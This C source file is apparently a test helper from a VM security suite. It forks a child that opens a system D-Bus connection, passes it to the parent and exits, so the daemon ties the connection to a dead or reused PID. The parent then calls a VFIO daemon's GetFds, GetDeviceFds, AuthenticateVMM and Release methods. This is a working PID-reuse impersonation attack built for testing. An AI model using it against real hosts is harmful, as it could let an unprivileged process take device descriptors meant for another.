/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * vfd-stale-bus: an attacker's system-bus connection that outlives the
 * process that opened it (vm-security-vmm-identity).
 *
 * A child connect()s to the system bus socket, hands the socket to its
 * parent (SCM_RIGHTS) and exits. dbus-daemon takes the peer credentials of
 * connect() (SO_PEERCRED), so for the bus the connection belongs to the
 * child's pid forever, whoever holds it and whoever gets that pid next.
 * The parent finishes the handshake on that socket, prints
 * "stale pid=PID" and then obeys one command per line on stdin:
 *
 *   getfds VM          VM.GetFds of the VM named VM
 *   devfds VM DEVICE   VM.GetDeviceFds
 *   auth VM SECRET     VM.AuthenticateVMM
 *   release VM         VM.Release
 *   quit
 *
 * and answers each with one line: "CMD ok fds=N" or "CMD err=ERROR.NAME".
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <systemd/sd-bus.h>
#include <unistd.h>

#define SYSTEM_BUS_SOCKET "/run/dbus/system_bus_socket"

static int send_fd(int sock, int fd)
{
	char byte = 0;
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	union {
		struct cmsghdr align;
		char buf[CMSG_SPACE(sizeof(int))];
	} u = {};
	struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf,
			     .msg_controllen = sizeof(u.buf) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof(int));
	return sendmsg(sock, &mh, 0) == 1 ? 0 : -errno;
}

static int recv_fd(int sock)
{
	char byte;
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	union {
		struct cmsghdr align;
		char buf[CMSG_SPACE(sizeof(int))];
	} u = {};
	struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf,
			     .msg_controllen = sizeof(u.buf) };
	struct cmsghdr *c;
	int fd;

	if (recvmsg(sock, &mh, 0) != 1)
		return -errno;
	c = CMSG_FIRSTHDR(&mh);
	if (!c || c->cmsg_type != SCM_RIGHTS)
		return -EBADMSG;
	memcpy(&fd, CMSG_DATA(c), sizeof(int));
	return fd;
}

/* the child: connect, hand the socket over, exit */
static int connect_in_child(pid_t *ret_child)
{
	int sv[2], fd, status;
	pid_t child;

	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) < 0)
		return -errno;
	child = fork();
	if (child < 0)
		return -errno;
	if (child == 0) {
		struct sockaddr_un sa = { .sun_family = AF_UNIX, .sun_path = SYSTEM_BUS_SOCKET };
		const char *a = getenv("DBUS_SYSTEM_BUS_ADDRESS");
		int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

		/* a private bus (unix:path=...) for tests outside the lab */
		if (a && strncmp(a, "unix:path=", 10) == 0)
			snprintf(sa.sun_path, sizeof(sa.sun_path), "%.*s", (int) strcspn(a + 10, ","), a + 10);

		if (s < 0 || connect(s, (struct sockaddr *) &sa, sizeof(sa)) < 0 || send_fd(sv[1], s) < 0)
			_exit(1);
		_exit(0);
	}
	close(sv[1]);
	fd = recv_fd(sv[0]);
	close(sv[0]);
	if (waitpid(child, &status, 0) < 0 || !WIFEXITED(status) || WEXITSTATUS(status) != 0) {
		if (fd >= 0)
			close(fd);
		return -ECHILD;
	}
	*ret_child = child;
	return fd;
}

static int vm_path(sd_bus *bus, const char *vm, char **ret)
{
	sd_bus_error error = SD_BUS_ERROR_NULL;
	sd_bus_message *reply = NULL;
	const char *path;
	int r;

	r = sd_bus_call_method(bus, "org.vfiod1", "/org/vfiod1", "org.vfiod1.Manager", "GetVM", &error,
			       &reply, "s", vm);
	if (r >= 0)
		r = sd_bus_message_read(reply, "o", &path);
	if (r >= 0)
		*ret = strdup(path);
	sd_bus_message_unref(reply);
	sd_bus_error_free(&error);
	return r < 0 ? r : (*ret ? 0 : -ENOMEM);
}

/* counts the descriptors of a reply: what the caller would have got */
static unsigned count_fds(sd_bus_message *m)
{
	unsigned n = 0;
	char type;
	const char *contents;
	int fd;

	while (sd_bus_message_peek_type(m, &type, &contents) > 0) {
		if (type == SD_BUS_TYPE_UNIX_FD) {
			if (sd_bus_message_read_basic(m, type, &fd) < 0)
				break;
			n++;
		} else if (type == SD_BUS_TYPE_ARRAY || type == SD_BUS_TYPE_STRUCT ||
			   type == SD_BUS_TYPE_VARIANT || type == SD_BUS_TYPE_DICT_ENTRY) {
			if (sd_bus_message_enter_container(m, type, contents) < 0)
				break;
			n += count_fds(m);
			if (sd_bus_message_exit_container(m) < 0)
				break;
		} else if (sd_bus_message_skip(m, NULL) < 0)
			break;
	}
	return n;
}

static void run(sd_bus *bus, const char *cmd, const char *vm, const char *member, const char *arg)
{
	sd_bus_error error = SD_BUS_ERROR_NULL;
	sd_bus_message *reply = NULL;
	char *path = NULL;
	int r;

	r = vm_path(bus, vm, &path);
	if (r < 0) {
		printf("%s err=GetVM:%d\n", cmd, r);
		return;
	}
	if (arg)
		r = sd_bus_call_method(bus, "org.vfiod1", path, "org.vfiod1.VM", member, &error, &reply,
				       "s", arg);
	else
		r = sd_bus_call_method(bus, "org.vfiod1", path, "org.vfiod1.VM", member, &error, &reply,
				       NULL);
	if (r < 0)
		printf("%s err=%s\n", cmd, error.name ? error.name : "unknown");
	else
		printf("%s ok fds=%u\n", cmd, count_fds(reply));
	sd_bus_message_unref(reply);
	sd_bus_error_free(&error);
	free(path);
}

int main(void)
{
	sd_bus *bus = NULL;
	char line[512];
	pid_t child = 0;
	int fd, r;

	setvbuf(stdout, NULL, _IOLBF, 0);
	fd = connect_in_child(&child);
	if (fd < 0) {
		printf("stale err=%s\n", strerror(-fd));
		return 1;
	}
	r = sd_bus_new(&bus);
	if (r >= 0)
		r = sd_bus_set_fd(bus, fd, fd);
	if (r >= 0)
		r = sd_bus_set_bus_client(bus, 1);
	if (r >= 0)
		r = sd_bus_start(bus);
	if (r < 0) {
		printf("stale err=%s\n", strerror(-r));
		return 1;
	}
	printf("stale pid=%d\n", (int) child);

	while (fgets(line, sizeof(line), stdin)) {
		char *cmd = strtok(line, " \n"), *vm = strtok(NULL, " \n"), *arg = strtok(NULL, " \n");

		if (!cmd || strcmp(cmd, "quit") == 0)
			break;
		if (!vm)
			printf("%s err=usage\n", cmd);
		else if (strcmp(cmd, "getfds") == 0)
			run(bus, cmd, vm, "GetFds", NULL);
		else if (strcmp(cmd, "devfds") == 0 && arg)
			run(bus, cmd, vm, "GetDeviceFds", arg);
		else if (strcmp(cmd, "auth") == 0 && arg)
			run(bus, cmd, vm, "AuthenticateVMM", arg);
		else if (strcmp(cmd, "release") == 0)
			run(bus, cmd, vm, "Release", NULL);
		else
			printf("%s err=usage\n", cmd);
	}
	sd_bus_flush_close_unref(bus);
	return 0;
}
